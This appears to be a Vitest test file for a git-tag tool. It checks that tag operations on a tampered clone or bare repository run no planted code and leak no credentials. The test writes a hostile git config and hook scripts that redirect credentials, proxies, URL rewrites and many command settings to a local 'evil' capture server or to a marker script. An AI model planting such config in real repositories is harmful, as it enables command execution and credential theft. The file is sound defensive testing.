/** A clone that a stranger made: nothing in it runs anything here, and nothing is sent anywhere but to the address of its remote. */
import { chmodSync, existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, it, onTestFinished } from 'vitest';
import { codeOf, toolsOn } from '../../support/target.ts';
import { connect, openScene, originOf, scratches } from './workshop.ts';

const HOOKS = [
  'pre-push',
  'post-update',
  'reference-transaction',
  'post-checkout',
  'pre-auto-gc',
  'fsmonitor-watchman',
  'sendemail-validate',
  'proc-receive',
];

/** Every setting that could run something, or lead a request or a credential elsewhere. */
const settings = (command: string, evil: string, url: string) => `
[core]
  sshCommand = ${command}
  gitProxy = ${command}
  askPass = ${command}
  fsmonitor = ${command}
  alternateRefsCommand = ${command}
  hooksPath = .git/hooks
  pager = ${command}
  editor = ${command}
[credential]
  helper = !${command}
  useHttpPath = false
[url "${evil}/"]
  insteadOf = ${new URL(url).origin}/
  pushInsteadOf = ${new URL(url).origin}/
[url "ext::${command} "]
  insteadOf = http
[http]
  proxy = ${evil}
  extraHeader = X-Stolen: yes
  sslVerify = false
  followRedirects = true
  cookieFile = .git/config
  saveCookies = true
[http "${url}"]
  proxy = ${evil}
[remote "origin"]
  proxy = ${evil}
  uploadpack = ${command}
  receivepack = ${command}
  vcs = evil
  push = +refs/*:refs/*
  mirror = true
  tagOpt = --tags
  promisor = true
  partialclonefilter = blob:none
[push]
  gpgSign = true
  followTags = true
  pushOption = evil
  recurseSubmodules = on-demand
[gpg]
  program = ${command}
[tag]
  gpgSign = true
[protocol]
  allow = always
[protocol "ext"]
  allow = always
[uploadpack]
  packObjectsHook = ${command}
[fetch]
  bundleURI = ${evil}
[transfer]
  bundleURI = true
[alias]
  fetch = !${command}
  push = !${command}
  ls-remote = !${command}
[trace2]
  eventTarget = ${command}.trace
`;

it.each([[undefined], ['one']])('creates, reads, moves and deletes, and no more (message: %s)', async (message) => {
  const credential = 'git:token-1';
  const scene = await openScene({ credential });
  const marker = join(scene.root, 'marker');
  const command = join(scene.root, 'command');
  writeFileSync(command, `#!/bin/sh\necho ran >> '${marker}'\ncat\n`);
  chmodSync(command, 0o755);
  const taken: string[] = [];
  const evil = createServer((request, response) => {
    taken.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`);
    response.writeHead(404).end();
  });
  evil.on('connect', (request, socket) => {
    taken.push(`CONNECT ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((ready) => evil.listen(0, '127.0.0.1', ready));
  onTestFinished(() => void evil.close());
  const { clone, bare } = scene;
  const config = join(clone.path, '.git/config');
  clone.git('remote', 'set-url', 'origin', scene.url.replace('//', `//${credential}@`));
  writeFileSync(config, settings(command, `http://127.0.0.1:${(evil.address() as AddressInfo).port}`, scene.url), { flag: 'a' });
  mkdirSync(join(clone.path, '.git/hooks'), { recursive: true });
  for (const hook of HOOKS) {
    writeFileSync(join(clone.path, '.git/hooks', hook), `#!/bin/sh\necho ${hook} >> '${marker}'\n`);
    chmodSync(join(clone.path, '.git/hooks', hook), 0o755);
  }

  const tags = originOf(scene);
  expect((await tags.create({ name: 'v1', ref: 'main', message })).outcome).toBe('created');
  expect((await tags.get('v1')).tag.commit_id).toBe(scene.commits[2]);
  expect((await tags.list()).tags).toHaveLength(1);
  expect((await tags.create({ name: 'v1', ref: scene.commits[0], force: true })).outcome).toBe('moved');
  expect(clone.git('-c', 'core.fsmonitor=false', 'rev-parse', 'v1')).toBe(bare.git('rev-parse', 'v1'));
  await tags.delete({ name: 'v1' });

  expect(existsSync(marker)).toBe(false);
  expect(taken).toEqual([]);
  expect(readdirSync(scene.root).filter((name) => name.includes('trace'))).toEqual([]);
  expect(bare.git('for-each-ref', '--format=%(refname)')).toBe('refs/heads/main');
  expect(scratches()).toEqual([]);
});

it('a repository on this disk that a stranger put beside the clone runs nothing either', async () => {
  const scene = await openScene();
  const { bare, clone } = scene;
  const marker = join(scene.root, 'marker');
  const command = join(scene.root, 'command');
  writeFileSync(command, `#!/bin/sh\necho "$0" >> '${marker}'\n`);
  chmodSync(command, 0o755);
  const hooks = [
    'pre-receive',
    'update',
    'post-receive',
    'post-update',
    'reference-transaction',
    'proc-receive',
    'push-to-checkout',
    'pre-auto-gc',
  ];
  for (const directory of ['hooks', 'own']) {
    mkdirSync(join(bare.path, directory), { recursive: true });
    for (const hook of hooks) symlinkSync(command, join(bare.path, directory, hook));
  }
  writeFileSync(join(bare.path, 'objects/info/alternates'), `${scene.clone.path}/.git/objects\n`);
  writeFileSync(
    join(bare.path, 'config'),
    `[core]\n  hooksPath = own\n  fsmonitor = ${command}\n  alternateRefsCommand = ${command}\n[uploadpack]\n  packObjectsHook = ${command}\n[gc]\n  auto = 1\n`,
    { flag: 'a' },
  );
  clone.git('remote', 'set-url', 'origin', bare.path);
  const open = () => toolsOn(connect(clone.path, { values: { TAGWRIGHT_GIT_ROOTS: scene.root } }), `${clone.path}#origin`);
  const tags = open();
  expect((await tags.create({ name: 'v1', ref: 'main', message: 'one' })).outcome).toBe('created');
  expect((await tags.list()).tags).toHaveLength(1);
  expect((await tags.create({ name: 'v1', ref: scene.commits[0], force: true })).outcome).toBe('moved');
  await tags.delete({ name: 'v1' });
  expect(existsSync(marker)).toBe(false);
  clone.git('remote', 'set-url', '--push', 'origin', join(scene.root, 'elsewhere.git'));
  expect(await codeOf(open().list())).toBe('policy_denied');
});
